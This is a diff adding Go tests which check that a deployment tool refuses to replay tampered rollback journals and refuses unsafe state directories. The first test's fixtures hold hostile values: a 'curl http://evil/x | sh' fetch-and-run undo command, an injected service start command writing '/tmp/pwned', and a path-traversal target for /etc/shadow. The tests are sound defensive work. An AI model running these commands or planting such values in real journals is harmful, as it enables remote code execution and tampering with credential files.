@@ -474,3 +474,51 @@ func TestMemJournalStoreLoad(t *testing.T) {
 		}
 	}
 }
+
+// A journal edited on the host cannot make rollback run a command frontdoor never writes
+// (issue 11 row 7): the rollback is refused and nothing is run or written.
+func TestMemUndoRefusesHostileJournal(t *testing.T) {
+	m := newMemRun(t, "a1")
+	a1 := m.fl.Hosts["a1"]
+	run := "20261201T000000Z-ffffff"
+	for _, j := range []string{
+		`{"state": "applying", "run": "` + run + `", "entries": [{"label": "undo x", "undo_command": "curl http://evil/x | sh"}]}`,
+		`{"state": "applying", "run": "` + run + `", "entries": [], "services": [{"Name": "jira", "Start": "id > /tmp/pwned"}]}`,
+		`{"state": "applying", "run": "` + run + `", "entries": [{"label": "restore", "path": "/etc/../etc/shadow", "existed": false}]}`,
+	} {
+		a1.Put(RunDir(run, target.POSIX)+"/journal.json", j, 0o600)
+		before := len(a1.Log)
+		now := time.Now()
+		u := &Undo{Hosts: m.hosts, Opts: m.opts(), Forks: 1, Target: run, Emit: m.emitter("undo"), Owner: Me(NewRunID(now), now)}
+		res := u.Run(context.Background())
+		if res.Status != RunFailed || !strings.Contains(res.Hosts[0].Err.Error(), "refusing to replay it") {
+			t.Fatalf("%s: %s %v", j, statuses(res), res.Hosts[0].Err)
+		}
+		for _, l := range a1.Log[before:] {
+			if strings.Contains(l, "evil") || strings.Contains(l, "pwned") || strings.HasPrefix(l, "write /etc") || strings.HasPrefix(l, "remove /etc") {
+				t.Errorf("ran or wrote: %s", l)
+			}
+		}
+	}
+}
+
+// A state directory another user owns, or a symlink, is refused before any change: journals
+// and backups (passwords) are not kept there and no lock is taken in it (issue 11 row 7).
+func TestMemUnsafeStateDir(t *testing.T) {
+	for _, st := range []string{"1000 755 directory", "symlink", "0 755 directory"} {
+		m := newMemRun(t, "a1")
+		a1 := m.fl.Hosts["a1"]
+		a1.StateDir = st
+		before := a1.Snapshot()
+		ro, _ := m.rollout(nil, nil)
+		res := ro.Run(context.Background())
+		var ue *session.UnsafeStateError
+		if !errors.As(res.Hosts[0].Err, &ue) || a1.Snapshot() != before || a1.Lock != "" {
+			t.Errorf("%s: %v", st, res.Hosts[0].Err)
+		}
+		r := session.Prepare(context.Background(), m.pb, m.hosts[0], m.opts())
+		if len(r.Warnings) == 0 || !strings.Contains(fmt.Sprint(r.Warnings), "state directory is unsafe") {
+			t.Errorf("%s: plan warnings %v", st, r.Warnings)
+		}
+	}
+}
